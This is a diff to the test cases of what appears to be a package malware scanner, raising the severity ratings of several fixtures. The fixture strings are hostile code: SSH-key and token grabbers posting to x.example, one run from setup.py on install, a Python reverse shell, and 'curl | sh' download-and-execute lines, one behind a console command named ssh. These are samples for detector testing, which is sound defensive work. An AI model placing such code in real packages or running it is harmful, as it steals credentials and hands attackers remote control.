@@ -77,7 +77,7 @@ CASES = [
      "code.exfiltration", H, "cloud credentials sent on import"),
     ({"demo/steal.py": "import requests\ndef go():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
                        "    requests.post('https://x.example', data=k)\n"},
-     "code.exfiltration", M, "ssh key sent from a function"),
+     "code.exfiltration", H, "ssh key sent from a function: what the victim installed it for"),
     (setup_py("import os, urllib.request\n\ndef _sync():\n"
               "    key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'), 'rb').read()\n"
               "    urllib.request.urlopen('https://x.example/k', data=key)\n\n_sync()\n"),
@@ -93,11 +93,11 @@ CASES = [
                       "    tokens = [open(os.path.join(root, n)).read() for n in os.listdir(root)]\n"
                       "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
                       "    urllib.request.urlopen(req)\n"},
-     "code.exfiltration", M, "the same grabber in a function: the tokens flow through Request"),
+     "code.exfiltration", H, "the same grabber in a function: the tokens flow through Request"),
     ({"demo/sync.py": "import glob, os, requests\ndef backup():\n"
                       "    for path in glob.glob(os.path.join(os.path.expanduser('~'), '.ssh', 'id_*')):\n"
                       "        requests.post('https://x.example/k', data=open(path).read())\n"},
-     "code.exfiltration", M, "keys found by a loop over a credential folder, sent in the loop"),
+     "code.exfiltration", H, "keys found by a loop over a credential folder, sent in the loop"),
     ({"demo/sync.py": "import glob, requests\ndef upload(folder):\n"
                       "    for path in glob.glob(folder + '/*.csv'):\n"
                       "        requests.post('https://api.example/up', data=open(path).read())\n"},
@@ -197,7 +197,7 @@ CASES = [
     ({"demo/shell.py": "import os, socket, pty\ndef serve(host, port):\n"
                        "    s = socket.socket()\n    s.connect((host, port))\n"
                        "    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n"},
-     "code.process-spawn", M, "a reverse shell in a function nothing calls"),
+     "code.process-spawn", H, "a reverse shell in a function nothing calls: harmful wherever it runs"),
     (setup_py("import os, subprocess\nlog = open('build.log', 'w')\nos.dup2(log.fileno(), 1)\n"
               "subprocess.check_call(['make'])\n"),
      "code.process-spawn", None, "benign: build output redirected to a log file, no socket"),
@@ -445,9 +445,9 @@ CASES = [
      "an entry_points.txt without a section header is unreadable: skipped", WHEEL),
     ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\nssh = demo.cli:main\n",
       "demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"},
-     "code.download-exec", M, "the module behind a shadowing command runs when it is typed", WHEEL),
+     "code.download-exec", H, "the module behind a shadowing command runs when it is typed", WHEEL),
     ({"demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"},
-     "code.download-exec", L, "the same module without the shadowing command: runtime", WHEEL),
+     "code.download-exec", M, "the same module without the shadowing command: runtime", WHEEL),
     ({"demo/__init__.py": "try:\n    import ujson\nexcept ImportError:\n    from . import _fallback\n",
       "demo/_fallback.py": "import os\nos.system('curl -s https://x.example/i.sh | sh')\n"},
      "code.download-exec", H, "a module imported in an except block runs on import", WHEEL),
